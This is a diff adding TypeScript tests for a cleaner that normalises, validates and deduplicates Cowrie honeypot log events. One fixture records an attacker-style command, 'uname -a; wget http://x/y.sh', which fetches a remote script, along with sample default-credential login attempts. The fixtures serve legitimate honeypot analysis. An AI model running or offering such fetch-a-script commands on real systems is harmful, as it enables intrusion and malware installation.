@@ -1,0 +1,275 @@
+import assert from "node:assert/strict";
+import { CanonicalEvent } from "../../src/domain/canonical-event";
+import { CleanOutcome, CowrieEventCleaner } from "../../src/clean/cowrie-event-cleaner";
+
+const NOW = Date.parse("2026-03-18T12:00:00Z");
+
+/** A Cowrie 2.x event of session a1b2c3d4e5f6 from 203.0.113.7, as the sensor writes it. */
+function cowrie2(eventid: string, second: number, fields: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    eventid, message: "...", sensor: "sensor-1",
+    timestamp: `2026-03-18T10:27:${String(second).padStart(2, "0")}.123456Z`, src_ip: "203.0.113.7", session: "a1b2c3d4e5f6", protocol: "ssh",
+    ...fields,
+  };
+}
+
+const connect2 = cowrie2("cowrie.session.connect", 0, { src_port: 51234, dst_ip: "10.0.0.2", dst_port: 22 });
+
+function clean(outcome: CleanOutcome): CanonicalEvent {
+  assert.equal(outcome.kind, "clean", JSON.stringify(outcome));
+  return (outcome as { event: CanonicalEvent }).event;
+}
+
+function rejection(outcome: CleanOutcome): string {
+  assert.equal(outcome.kind, "rejected", JSON.stringify(outcome));
+  return (outcome as { reason: string }).reason;
+}
+
+describe("CowrieEventCleaner", () => {
+  let cleaner: CowrieEventCleaner;
+  beforeEach(() => {
+    cleaner = new CowrieEventCleaner({ now: () => NOW });
+  });
+
+  describe("Cowrie 2.x", () => {
+    it("turns a connect into the canonical event, field for field", () => {
+      assert.deepEqual(clean(cleaner.clean({ ...connect2, uuid: "ae0aab00-22b0-11f1-b096-0affcd2dea01" })), {
+        time_ms: Date.parse("2026-03-18T10:27:00.123Z") + 0.456,
+        time: "2026-03-18T10:27:00.123Z",
+        eventid: "cowrie.session.connect",
+        category: "connect",
+        sensor: "sensor-1",
+        session: "a1b2c3d4e5f6",
+        src_ip: "203.0.113.7",
+        is_internal_ip: false,
+        protocol: "ssh",
+        uuid: "ae0aab00-22b0-11f1-b096-0affcd2dea01",
+        src_port: 51234,
+        dst_ip: "10.0.0.2",
+        dst_port: 22,
+      });
+    });
+
+    it("fills the connect's connection fields into the session's later events, until it closes", () => {
+      clean(cleaner.clean(connect2));
+      const login = clean(cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", password: "123456" })));
+      assert.deepEqual([login.src_port, login.dst_ip, login.dst_port], [51234, "10.0.0.2", 22]);
+      assert.deepEqual([login.username, login.password, login.category], ["root", "123456", "auth"]);
+      const closed = clean(cleaner.clean(cowrie2("cowrie.session.closed", 2, { duration: "12.3" })));
+      assert.equal(closed.duration_ms, 12300);
+      assert.equal(closed.dst_port, 22);
+      assert.equal(cleaner.sessions.size, 0, "a closed session is forgotten");
+      const late = clean(cleaner.clean(cowrie2("cowrie.log.closed", 3)));
+      assert.equal(late.src_port, undefined, "nothing is invented once the session is gone");
+    });
+
+    it("keeps a tunnel's own destination, a host name too, and fills nothing into it", () => {
+      clean(cleaner.clean(connect2));
+      const request = clean(cleaner.clean(cowrie2("cowrie.direct-tcpip.request", 1, { dst_ip: "google.com", dst_port: 443, src_port: 40488 })));
+      assert.deepEqual([request.category, request.dst_ip, request.dst_port, request.src_port], ["tunnel", "google.com", 443, 40488]);
+      const data = clean(cleaner.clean(cowrie2("cowrie.direct-tcpip.data", 2, { dst_ip: "google.com", dst_port: 443, data: "..." })));
+      assert.equal(data.src_port, undefined);
+      assert.equal(data.protocol, "ssh");
+    });
+
+    it("maps each eventid's own fields", () => {
+      const version = clean(cleaner.clean(cowrie2("cowrie.client.version", 1, { version: "SSH-2.0-Go" })));
+      assert.equal(version.client_version, "SSH-2.0-Go");
+      const kex = clean(cleaner.clean(cowrie2("cowrie.client.kex", 1, { hassh: "aae6b9604f6f3356543709a376d7f657" })));
+      assert.equal(kex.hassh, "aae6b9604f6f3356543709a376d7f657");
+      const command = clean(cleaner.clean(cowrie2("cowrie.command.input", 2, { input: "uname -a; wget http://x/y.sh" })));
+      assert.deepEqual([command.category, command.input], ["command", "uname -a; wget http://x/y.sh"]);
+      const download = clean(cleaner.clean(cowrie2("cowrie.session.file_download", 3, { url: "http://x/y.sh", shasum: "ab12", outfile: "dl/ab12" })));
+      assert.deepEqual([download.category, download.url, download.shasum], ["file", "http://x/y.sh", "ab12"]);
+      const failed = clean(cleaner.clean(cowrie2("cowrie.session.file_download.failed", 4, { url: "http://x/z" })));
+      assert.deepEqual([failed.url, failed.shasum], ["http://x/z", undefined]);
+      const upload = clean(cleaner.clean(cowrie2("cowrie.session.file_upload", 5, { filename: "sshd", shasum: "94f2" })));
+      assert.deepEqual([upload.shasum, upload.url], ["94f2", undefined]);
+    });
+
+    it("takes a key-based login's fingerprint instead of a password", () => {
+      const fingerprint = "b5:22:2a:3f:8b:a6:24:06:87:ce:ef:fe:a0:c4:c3:03";
+      const login = clean(cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", fingerprint, key: "ssh-rsa AAAA", type: "ssh-rsa" })));
+      assert.equal(login.key_fingerprint, fingerprint);
+      assert.equal("password" in login, false);
+      const offered = clean(cleaner.clean(cowrie2("cowrie.client.fingerprint", 1, { username: "root", fingerprint })));
+      assert.deepEqual([offered.category, offered.key_fingerprint], ["client", fingerprint]);
+    });
+
+    it("writes unknown for missing text and leaves missing numbers absent", () => {
+      const login = clean(cleaner.clean({ eventid: "cowrie.login.success", timestamp: "2026-03-18T10:27:00Z", src_ip: "203.0.113.7" }));
+      assert.deepEqual([login.sensor, login.session, login.protocol, login.username, login.password], ["unknown", "unknown", "unknown", "unknown", "unknown"]);
+      const closed = clean(cleaner.clean(cowrie2("cowrie.session.closed", 1)));
+      assert.equal("duration_ms" in closed, false);
+      const connect = clean(cleaner.clean(cowrie2("cowrie.session.connect", 2)));
+      assert.deepEqual([connect.src_port, connect.dst_ip, connect.dst_port], [undefined, undefined, undefined]);
+    });
+
+    it("passes unknown eventids through as category other", () => {
+      const event = clean(cleaner.clean(cowrie2("cowrie.abuseipdb.reportedip", 1, { username: "not mapped here" })));
+      assert.equal(event.category, "other");
+      assert.equal(event.username, undefined);
+    });
+  });
+
+  describe("other Cowrie versions", () => {
+    it("2016-era: float duration in seconds, no protocol (taken from `system`), no uuid", () => {
+      const base = { session: "6bf10bd8", src_ip: "5.45.66.6", sensor: "vesselin-pc", isError: 0 };
+      clean(cleaner.clean({ ...base, eventid: "cowrie.session.connect", timestamp: "2017-01-23T13:05:00.002275Z", src_port: 5022, dst_ip: "192.168.0.102", dst_port: 2222, system: "cowrie.ssh.factory.CowrieSSHFactory" }));
+      const closed = clean(cleaner.clean({ ...base, eventid: "cowrie.session.closed", timestamp: "2017-01-23T13:05:35.002275Z", duration: 35.00023126602173, system: "HoneyPotSSHTransport,20,5.45.66.6" }));
+      assert.deepEqual([closed.duration_ms, closed.protocol, closed.uuid, closed.dst_port], [35000, "ssh", undefined, 2222]);
+      clean(cleaner.clean({ ...base, session: "7c7c7c7c", eventid: "cowrie.session.connect", timestamp: "2017-01-23T13:06:00Z", system: "CowrieTelnetFactory" }));
+      const bare = clean(cleaner.clean({ ...base, session: "7c7c7c7c", eventid: "cowrie.command.input", timestamp: "2017-01-23T13:06:01Z", input: "sh" }));
+      assert.equal(bare.protocol, "telnet", "from the session's connect event when the event itself does not say");
+      const telnet = clean(cleaner.clean({ ...base, session: "0i", eventid: "cowrie.login.success", timestamp: "2017-01-23T07:27:06.632719Z", username: "root", password: "xc3511", system: "CowrieTelnetTransport,0,46.166.142.56" }));
+      assert.equal(telnet.protocol, "telnet");
+    });
+
+    it("3.x: duration_ms and connection fields on every event, as written", () => {
+      const three = (eventid: string, fields: Record<string, unknown>) => ({
+        eventid, ...fields, src_ip: "2001:db8::7", src_port: 40000, dst_ip: "2001:db8::1", dst_port: 2223, session: "3a3a3a3a3a3a",
+        sensor: "s3", protocol: "telnet", uuid: "0f0e0d0c-0000-11f0-8000-000000000001", timestamp: "2026-03-18T10:27:00.000001Z",
+      });
+      const command = clean(cleaner.clean(three("cowrie.command.input", { input: "enable" })));
+      assert.deepEqual([command.src_port, command.dst_ip, command.dst_port, command.protocol], [40000, "2001:db8::1", 2223, "telnet"]);
+      const closed = clean(cleaner.clean(three("cowrie.session.closed", { duration_ms: 1234 })));
+      assert.equal(closed.duration_ms, 1234);
+    });
+
+    it("reads `+0200`-style offsets, `epoch` seconds or milliseconds and Cowrie's numeric `time`", () => {
+      const instant = Date.parse("2026-03-18T10:27:00.123Z");
+      let session = 0;
+      // Each in its own session: the same instant twice in one session would be a duplicate.
+      const at = (fields: Record<string, unknown>) => clean(cleaner.clean({ eventid: "cowrie.client.size", src_ip: "203.0.113.7", session: `s${session++}`, ...fields })).time_ms;
+      assert.equal(at({ timestamp: "2026-03-18T10:27:00.123Z" }), instant);
+      assert.equal(at({ timestamp: "2026-03-18T12:27:00.123+0200" }), instant);
+      assert.equal(at({ timestamp: "2026-03-18T05:27:00.123-05:00" }), instant);
+      assert.equal(at({ epoch: instant / 1000 }), instant);
+      assert.equal(at({ epoch: String(instant / 1000) }), instant);
+      assert.equal(at({ epoch: instant }), instant);
+      assert.equal(at({ time: instant / 1000 }), instant);
+      const offset = clean(cleaner.clean({ eventid: "x", src_ip: "203.0.113.7", timestamp: "2026-03-18T12:27:00.123+0200" }));
+      assert.equal(offset.time, "2026-03-18T10:27:00.123Z");
+    });
+
+    it("normalises IPv6 and IPv4-mapped addresses and knows internal ones", () => {
+      const v6 = clean(cleaner.clean(cowrie2("cowrie.session.connect", 1, { src_ip: "2001:DB8:0:0::7", dst_ip: "FD00::2", src_port: 1, dst_port: 22 })));
+      assert.deepEqual([v6.src_ip, v6.dst_ip, v6.is_internal_ip], ["2001:db8::7", "fd00::2", false]);
+      const mapped = clean(cleaner.clean(cowrie2("cowrie.session.connect", 2, { src_ip: "::ffff:192.168.1.20", session: "other" })));
+      assert.deepEqual([mapped.src_ip, mapped.is_internal_ip], ["192.168.1.20", true]);
+      const linkLocal = clean(cleaner.clean(cowrie2("cowrie.client.size", 3, { src_ip: "fe80::1" })));
+      assert.equal(linkLocal.is_internal_ip, true);
+    });
+
+    it("accepts the JSON text of one event, as a string or a Buffer", () => {
+      assert.equal(clean(cleaner.clean(JSON.stringify(connect2))).dst_port, 22);
+      assert.equal(clean(cleaner.clean(Buffer.from(JSON.stringify(cowrie2("cowrie.client.size", 1))))).category, "client");
+    });
+  });
+
+  describe("rejects", () => {
+    const cases: Array<[string, unknown]> = [
+      ["malformed-json", '{"eventid": "cowrie.login.failed", "src_ip": "1.2.'],
+      ["not-an-object", 42],
+      ["not-an-object", null],
+      ["not-an-object", "[1,2]"],
+      ["not-an-object", [connect2]],
+      ["missing-eventid", { ...connect2, eventid: undefined }],
+      ["missing-eventid", { ...connect2, eventid: "  " }],
+      ["missing-eventid", { ...connect2, eventid: 7 }],
+      ["missing-timestamp", { ...connect2, timestamp: undefined }],
+      ["bad-timestamp", { ...connect2, timestamp: "yesterday" }],
+      ["bad-timestamp", { ...connect2, timestamp: "2026-02-30T10:00:00Z" }],
+      ["bad-timestamp", { ...connect2, timestamp: 1773829619 }],
+      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: "soon" }],
+      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: -5 }],
+      ["future-timestamp", { ...connect2, timestamp: "2026-03-19T12:00:01Z" }],
+      ["missing-src_ip", { ...connect2, src_ip: undefined }],
+      ["missing-src_ip", { ...connect2, src_ip: "" }],
+      ["bad-src_ip", { ...connect2, src_ip: "203.0.113" }],
+      ["bad-src_ip", { ...connect2, src_ip: "evil.example.com" }],
+      ["bad-src_ip", { ...connect2, src_ip: 3405803783 }],
+      ["bad-dst_ip", { ...connect2, dst_ip: "not-an-ip" }],
+      ["bad-port", { ...connect2, src_port: 70000 }],
+      ["bad-port", { ...connect2, dst_port: -1 }],
+      ["bad-port", { ...connect2, dst_port: 22.5 }],
+      ["bad-port", { ...connect2, dst_port: "ssh" }],
+      ["bad-duration", cowrie2("cowrie.session.closed", 1, { duration: "a while" })],
+      ["bad-duration", cowrie2("cowrie.session.closed", 1, { duration: -3 })],
+      ["bad-duration", cowrie2("cowrie.session.closed", 1, { duration_ms: "NaN" })],
+    ];
+    for (const [reason, payload] of cases) {
+      it(`${reason}: ${JSON.stringify(payload)?.slice(0, 90)}`, () => {
+        const outcome = cleaner.clean(payload);
+        assert.equal(rejection(outcome), reason);
+        assert.ok((outcome as { detail: string }).detail.length > 0);
+      });
+    }
+
+    it("covers every reason it declares", () => {
+      assert.deepEqual(new Set(cases.map(([reason]) => reason)), new Set(CowrieEventCleaner.rejectReasons));
+    });
+
+    it("accepts what is just inside the limits", () => {
+      clean(cleaner.clean({ ...connect2, timestamp: "2026-03-19T11:59:59Z" }));
+      clean(cleaner.clean({ ...connect2, session: "x1", src_port: 0, dst_port: 65535 }));
+      clean(cleaner.clean({ ...connect2, session: "x2", src_port: "2222" }));
+    });
+
+    it("with `receive-time`, stamps an event without a timestamp instead of rejecting it", () => {
+      const lenient = new CowrieEventCleaner({ now: () => NOW, missingTimestamp: "receive-time" });
+      const event = clean(lenient.clean({ ...connect2, timestamp: undefined }));
+      assert.equal(event.time_ms, NOW);
+      assert.equal(rejection(lenient.clean({ ...connect2, timestamp: "garbage" })), "bad-timestamp", "a bad timestamp is still rejected");
+    });
+
+    it("honours a configured future tolerance", () => {
+      const strict = new CowrieEventCleaner({ now: () => NOW, futureToleranceMs: 60_000 });
+      clean(strict.clean({ ...connect2, timestamp: "2026-03-18T12:00:59Z" }));
+      assert.equal(rejection(strict.clean({ ...connect2, timestamp: "2026-03-18T12:01:01Z" })), "future-timestamp");
+    });
+  });
+
+  describe("duplicates", () => {
+    it("drops an event seen again (same uuid, sensor, session, eventid and time) and counts it", () => {
+      const login = cowrie2("cowrie.login.failed", 1, { username: "root", password: "x", uuid: "u-1" });
+      assert.equal(cleaner.clean(login).kind, "clean");
+      assert.equal(cleaner.clean({ ...login }).kind, "duplicate");
+      assert.equal(cleaner.clean(JSON.stringify(login)).kind, "duplicate");
+      assert.equal(cleaner.clean({ ...login, timestamp: "2026-03-18T10:27:01.123457Z" }).kind, "clean", "a microsecond later is another event");
+      assert.equal(cleaner.clean({ ...login, eventid: "cowrie.login.success" }).kind, "clean");
+      assert.equal(cleaner.clean({ ...login, uuid: "u-2" }).kind, "clean", "another sensor instance");
+      assert.deepEqual(cleaner.counts, { clean: 4, rejected: 0, duplicates: 2 });
+    });
+
+    it("remembers only the most recent events (bounded window)", () => {
+      const small = new CowrieEventCleaner({ now: () => NOW, duplicateWindow: 3 });
+      const event = (n: number) => ({ ...connect2, session: `s${n}` });
+      for (let n = 0; n < 3; n++) small.clean(event(n));
+      assert.equal(small.clean(event(0)).kind, "duplicate");
+      for (let n = 3; n < 6; n++) small.clean(event(n));
+      assert.equal(small.clean(event(0)).kind, "clean", "pushed out of the window by three newer events");
+    });
+
+    it("does not let a duplicate connect or close touch the session table", () => {
+      clean(cleaner.clean(connect2));
+      const closed = cowrie2("cowrie.session.closed", 5, { duration: "1.0" });
+      clean(cleaner.clean(closed));
+      assert.equal(cleaner.clean(connect2).kind, "duplicate");
+      assert.equal(cleaner.sessions.size, 0);
+    });
+  });
+
+  describe("quality of each clean event", () => {
+    it("counts the expected fields the sensor wrote and which checks found canonical form", () => {
+      const full = cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", password: "x" }));
+      assert.deepEqual(full.kind === "clean" && full.quality, { expectedFields: 5, writtenFields: 5, checks: { timestamp: true, ip: true } });
+      const sparse = cleaner.clean({ eventid: "cowrie.login.failed", src_ip: "::ffff:203.0.113.9", timestamp: "2026-03-18T12:27:00+0200", username: "root" });
+      assert.deepEqual(sparse.kind === "clean" && sparse.quality, { expectedFields: 5, writtenFields: 1, checks: { timestamp: false, ip: false } });
+      const closed = cleaner.clean(cowrie2("cowrie.session.closed", 2, { duration: "0.4", src_port: "22" }));
+      assert.deepEqual(closed.kind === "clean" && closed.quality.checks, { timestamp: true, port: false, ip: true, duration: false });
+      const closed3 = cleaner.clean(cowrie2("cowrie.session.closed", 3, { duration_ms: 400, src_port: 22 }));
+      assert.deepEqual(closed3.kind === "clean" && closed3.quality.checks, { timestamp: true, port: true, ip: true, duration: true });
+    });
+  });
+});
